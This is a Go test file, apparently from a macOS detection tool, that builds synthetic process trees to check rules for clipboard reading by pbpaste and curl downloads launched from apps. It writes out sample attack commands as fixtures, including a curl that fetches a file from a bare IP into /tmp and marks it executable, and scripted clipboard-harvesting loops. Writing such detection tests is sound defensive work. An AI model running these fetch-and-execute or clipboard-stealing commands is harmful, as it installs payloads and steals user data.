package agent

import (
	"slices"
	"time"

	"hooksnare/collector/eslogger/synthetic"
)

// fetch is a download as implants do it: from an address without a name.
var fetch = []string{"curl", "-s", "-o", "/tmp/.u", "http://203.0.113.9:8080/u"}

const fetchScript = "curl -s -o /tmp/.u http://203.0.113.9:8080/u; chmod +x /tmp/.u"

func fetches(parent func(*desk) *synthetic.Proc, command ...string) func(*desk) {
	return func(d *desk) { d.sh(parent(d), fetchScript, command, []string{"chmod", "+x", "/tmp/.u"}) }
}

// inTerminal is a shell in a window of another terminal program.
func inTerminal(program string) func(*desk) *synthetic.Proc {
	return func(d *desk) *synthetic.Proc {
		zsh := d.start(d.start(d.app(program), "login", "-fp", synthetic.User), "zsh", "-zsh")
		d.Advance(time.Minute)
		return zsh
	}
}

func collectionStories() []story {
	return slices.Concat(
		about("collection_pbpaste_execution_via_unusual_parent",
			fires("a package's script in node", func(d *desk) { d.run(d.node(), "pbpaste") }, "/usr/bin/pbpaste < node"),
			fires("AppleScript, by a shell that becomes it", func(d *desk) {
				d.sole(d.osascript(d.shell(), `do shell script "pbpaste"`), "pbpaste", "pbpaste")
			}, "/usr/bin/pbpaste < osascript").beside("execution_shell_execution_via_apple_scripting: /bin/sh < osascript"),
			fires("a stealer in python", func(d *desk) { d.sole(d.python(), "pbpaste", "pbpaste") },
				"/usr/bin/pbpaste < python3.12"),
			near("the user", func(d *desk) { d.types("pbpaste") }),
			near("with an argument", func(d *desk) { d.run(d.node(), "pbpaste", "-Prefer", "txt") }),
			near("a python of pyenv", func(d *desk) { d.run(d.start(d.shell(), pyenvPython, "clip.py"), "pbpaste") }),
		),
		about("credential_access_high_volume_of_pbpaste",
			fires("a loop in a shell", pastes(5, time.Second), "/usr/bin/pbpaste < zsh"),
			fires("each by another process of one implant", func(d *desk) {
				p := d.implant()
				for range 5 {
					d.sole(p, "pbpaste", "pbpaste")
					d.Advance(10 * time.Second)
				}
			}, "/usr/bin/pbpaste < updated"),
			near("four", pastes(4, time.Second)),
			near("five, too slow", pastes(5, 16*time.Second)),
		),
		about("command_and_control_suspicious_curl_from_macos_application",
			fires("a cracked app", fetches(func(d *desk) *synthetic.Proc { return d.app(trojan) }, fetch...), "/usr/bin/curl < bash"),
			fires("a bought app, by AppleScript", func(d *desk) {
				d.run(d.osascript(d.app(slack), `do shell script "curl"`), "nscurl", "-dl", "/tmp/.u", "http://203.0.113.9/u.zip")
			}, "/usr/bin/nscurl < osascript"),
			near("a terminal program that is expected to", fetches(inTerminal(iTerm), fetch...)),
			near("a terminal program of the system", fetches((*desk).shell, fetch...)),
			near("an address with a name", fetches(func(d *desk) *synthetic.Proc { return d.app(trojan) },
				"curl", "-s", "-o", "/tmp/.u", "https://updates.example.com/u")),
			near("to no file", fetches(func(d *desk) *synthetic.Proc { return d.app(trojan) }, "curl", "-s", "http://203.0.113.9/u")),
			near("by the app itself", func(d *desk) { d.run(d.app(trojan), fetch...) }),
		),
	)
}

// pastes reads the clipboard again and again.
func pastes(times int, pause time.Duration) func(*desk) {
	return func(d *desk) {
		zsh := d.shell()
		for range times {
			d.run(zsh, "pbpaste")
			d.Advance(pause)
		}
	}
}
